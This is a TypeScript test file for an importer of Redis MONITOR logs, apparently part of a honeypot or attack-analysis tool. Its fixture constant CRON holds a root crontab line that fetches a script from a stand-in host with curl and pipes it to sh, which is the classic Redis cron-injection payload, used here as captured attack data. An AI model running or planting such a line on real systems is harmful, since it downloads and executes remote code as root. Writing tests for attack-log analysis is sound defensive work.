import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { importBytes, quoted } from './imports/in-memory.ts';

const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';
const T = 1_339_518_083;
const line = (seconds: number, who: string, ...words: readonly string[]): string =>
  `${seconds}.107412 [0 ${who}] ${words.map(quoted).join(' ')}\n`;

describe('the recording of MONITOR', () => {
  test('becomes sessions with the acts and the times of its lines', async () => {
    const seen = await importBytes('monitor', `OK\r\n${line(T, '198.51.100.7:60866', 'SET', 'x', CRON)}`);

    expect(seen.acts.map(({ act, time }) => [act.type, time])).toEqual([
      ['session.opened', T * 1_000 + 107],
      ['redis.command', T * 1_000 + 107],
      ['redis.value', T * 1_000 + 107],
      ['session.closed', T * 1_000 + 107],
    ]);
    expect(seen.acts[0]?.origin).toEqual({
      vantage: 'import',
      sensor: 'test',
      peer: { address: '198.51.100.7', port: 60_866 },
    });
    expect(seen.of('redis.value')[0]).toMatchObject({ key: 'x', value: CRON, db: 0 });
    expect(seen.report).toMatchObject({ units: 2, ignored: 1, broken: 0 });
  });

  test.for([
    ['[::1]:6379', '::1', 6379],
    ['::1:6379', '::1', 6379],
    ['[2001:DB8::5]:9', '2001:db8::5', 9],
    ['[::ffff:192.0.2.1]:9', '192.0.2.1', 9],
    ['unix:/run/redis socket.sock', '127.0.0.1', 0],
    ['lua', '127.0.0.1', 0],
  ] as const)('knows the visitor %s', async ([who, address, port]) => {
    const seen = await importBytes('monitor', line(T, who, 'ping'));

    expect(seen.acts[0]?.origin.peer).toEqual({ address, port });
  });

  test('gives what a script does to whoever called it', async () => {
    const a = '198.51.100.7:1';
    const b = '198.51.100.8:2';
    const text = [
      line(T, a, 'eval', 'return 1', '0'),
      line(T, 'lua', 'get', 'x'),
      line(T, b, 'ping'),
      line(T, a, 'ping'),
    ].join('');

    const seen = await importBytes('monitor', text);

    const told = seen.acts.flatMap(({ act, origin }) =>
      act.type === 'redis.command' ? [`${act.name} ${origin.peer.address}`] : [],
    );
    expect(told).toEqual(['eval 198.51.100.7', 'get 198.51.100.7', 'ping 198.51.100.8', 'ping 198.51.100.7']);
    expect(seen.sessions).toBe(2);
  });

  test('begins another session behind a quarter of an hour of silence', async () => {
    const who = '198.51.100.7:1';
    const text = [0, 899, 1_800].map((after) => line(T + after, who, 'ping')).join('');

    const seen = await importBytes('monitor', text);

    expect(seen.of('session.closed').map(({ reason, commands, ms }) => [reason, commands, ms])).toEqual([
      ['timeout', 2, 899_000],
      ['shutdown', 1, 0],
    ]);
  });

  test('gives back any words, however the file is cut', async () => {
    const word = fc
      .array(fc.integer({ min: 0, max: 255 }), { maxLength: 40 })
      .map((codes) => String.fromCharCode(...codes));

    await fc.assert(
      fc.asyncProperty(
        fc.array(word, { minLength: 1, maxLength: 5 }),
        fc.integer({ min: 1, max: 90 }),
        async (words, size) => {
          const seen = await importBytes('monitor', line(T, '192.0.2.1:1', 'mset', ...words), size);

          expect(seen.of('redis.command')[0]?.args).toEqual(words);
        },
      ),
      { numRuns: 150 },
    );
  });

  test('keeps the head of a value that is too long, with length and hash of the whole', async () => {
    const value = `${CRON}${'\u0000\\"x'.repeat(600_000)}`;

    const seen = await importBytes('monitor', line(T, '192.0.2.1:1', 'set', 'k', value), 4_096);

    const sha256 = createHash('sha256').update(value, 'latin1').digest('hex');
    expect(seen.of('redis.value')[0]?.cut).toEqual([{ index: -1, length: value.length, sha256 }]);
    expect(seen.of('redis.value')[0]?.value.startsWith(CRON)).toBe(true);
  });

  test('counts and locates broken lines, and reads the others', async () => {
    const good = line(T, '192.0.2.1:1', 'ping');
    const bad = ['nonsense\n', `${T}.1 [0 192.0.2.1:1] "open\n`, `${T}.1 [0 192.0.2.1:1] "a" b\n`];
    const nobody = line(T, 'example.org:1', 'ping');

    const seen = await importBytes('monitor', [good, ...bad, nobody, good.trimEnd()].join(''), 7);

    expect(seen.report.places).toEqual([
      { unit: 2, why: 'it is no line of MONITOR' },
      { unit: 3, why: 'a quote is not closed' },
      { unit: 4, why: 'its words are not in quotes' },
      { unit: 5, why: 'it names no address' },
    ]);
    expect(seen.report).toMatchObject({ units: 6, broken: 4 });
    expect(seen.of('redis.command')).toHaveLength(2);
  });

  test('gives an impossible time the one before it', async () => {
    const times = [T, 1, 99_999_999_999, Number.NaN].map((time) => line(time, '192.0.2.1:1', 'ping'));

    const seen = await importBytes('monitor', times.join(''));

    expect(seen.impossibleTimes).toBe(3);
    expect(new Set(seen.acts.map(({ time }) => time))).toEqual(new Set([T * 1_000 + 107]));
  });

  test('counts plain commands of a busy application instead of keeping each, and loses no payload among them', async () => {
    const busy = Array.from({ length: 5_000 }, (_, index) =>
      line(T + index / 1_000, '192.0.2.1:1', 'get', 'k'),
    );
    busy.splice(4_000, 0, line(T + 4, '192.0.2.1:1', 'set', 'x', CRON));

    const seen = await importBytes('monitor', busy.join(''));

    const counted = seen.of('redis.burst').reduce((sum, { counts }) => sum + (counts['get'] ?? 0), 0);
    expect(counted + seen.of('redis.command').length).toBe(5_001);
    expect(seen.acts.length).toBeLessThan(300);
    expect(seen.of('redis.value')[0]?.value).toBe(CRON);
  });
});
